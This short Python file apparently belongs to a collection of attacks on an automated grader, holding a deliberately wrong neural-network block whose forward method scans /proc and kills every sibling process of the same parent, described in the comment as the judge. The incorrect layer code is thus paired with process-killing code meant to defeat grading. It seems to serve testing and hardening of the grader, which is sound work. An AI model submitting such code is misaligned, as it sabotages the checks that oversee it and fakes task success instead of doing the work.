# ruff: noqa
# While checked, the answer's forward kills its sibling judge (same parent: the fork server).
from grading_attacks.common import OWN_LAYERS

REPLACE = {
    "block": """import os
import signal


class MyBasicBlock(nn.Module):
    expansion = 1

    def __init__(self, in_channels: int, planes: int, stride: int = 1) -> None:
"""
    + OWN_LAYERS
    + """
    def forward(self, x):
        me, parent = os.getpid(), os.getppid()
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != me:
                try:
                    with open(f"/proc/{name}/stat") as f:
                        if int(f.read().rsplit(")", 1)[1].split()[1]) == parent:
                            os.kill(int(name), signal.SIGKILL)
                except OSError:
                    pass
        return self.relu(self.bn2(self.conv2(self.relu(self.bn1(self.conv1(x))))))  # wrong: no shortcut
"""
}
